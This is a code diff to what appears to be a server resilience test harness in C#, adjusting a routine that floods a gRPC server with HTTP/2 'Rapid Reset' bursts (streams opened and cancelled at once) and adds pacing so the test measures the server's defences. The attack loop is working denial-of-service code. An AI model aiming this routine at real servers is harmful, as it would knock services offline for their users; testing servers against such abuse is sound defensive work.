@@ -151,24 +151,30 @@ public static class Abuse
         return new LoadResult("bystander", calls, errors, stopwatch.Elapsed.TotalSeconds, latency) { FirstError = firstError };
     }
 
+    // Paced: 4 connections × 2,500 streams/s. Unpaced, the attacker on the same 2 cores takes a whole core from the
+    // server and the measurement is of CPU theft, not of the server's defences.
+    private const int ResetStreamsPerSecond = 10_000;
+
     private static async Task<(string, string)> RapidResetAsync(Uri address, TimeSpan duration, CancellationToken cancellationToken)
     {
+        const int Workers = 4, Burst = 25;
         long streams = 0, connections = 0, goAways = 0, resets = 0;
         var stopwatch = Stopwatch.StartNew();
-        await Task.WhenAll(Enumerable.Range(0, 4).Select(async _ =>
+        var block = RawHttp2Connection.EncodeHeaders(RawHttp2Connection.GrpcRequest(address, Lookup));
+        await Task.WhenAll(Enumerable.Range(0, Workers).Select(async _ =>
         {
+            long sent = 0;
             while (stopwatch.Elapsed < duration && !cancellationToken.IsCancellationRequested)
             {
                 await using var connection = await RawHttp2Connection.OpenAsync(address);
                 Interlocked.Increment(ref connections);
                 while (!connection.Closed && stopwatch.Elapsed < duration)
                 {
-                    // A burst of 50 streams, each opened and cancelled at once, in one write.
+                    // A burst of streams, each opened and cancelled at once, in one write.
                     var burst = new MemoryStream();
-                    for (var k = 0; k < 50; k++)
+                    for (var k = 0; k < Burst; k++)
                     {
                         var id = connection.NextStreamId();
-                        var block = RawHttp2Connection.EncodeHeaders(RawHttp2Connection.GrpcRequest(address, Lookup));
                         WriteFrame(burst, RawHttp2Connection.Headers, RawHttp2Connection.EndHeaders, id, block);
                         WriteFrame(burst, RawHttp2Connection.RstStream, 0, id, [0, 0, 0, 8]); // CANCEL
                     }
@@ -178,15 +184,20 @@ public static class Abuse
                         break;
                     }
 
-                    Interlocked.Add(ref streams, 50);
-                    await Task.Delay(1, cancellationToken);
+                    sent += Burst;
+                    Interlocked.Add(ref streams, Burst);
+                    var due = TimeSpan.FromSeconds(sent / (double)(ResetStreamsPerSecond / Workers));
+                    if (due > stopwatch.Elapsed)
+                    {
+                        await Task.Delay(due - stopwatch.Elapsed, cancellationToken);
+                    }
                 }
 
                 Interlocked.Add(ref goAways, connection.GoAwaysReceived);
                 Interlocked.Add(ref resets, connection.ResetsReceived);
             }
         }));
-        return ($"{N(streams)} streams opened and reset on {connections} connections ({N(streams / duration.TotalSeconds)}/s)",
+        return ($"{N(streams)} streams opened and reset at once on {connections} connections ({N(streams / duration.TotalSeconds)}/s, paced)",
             $"{goAways} GOAWAY, {N(resets)} RST_STREAM");
     }
 
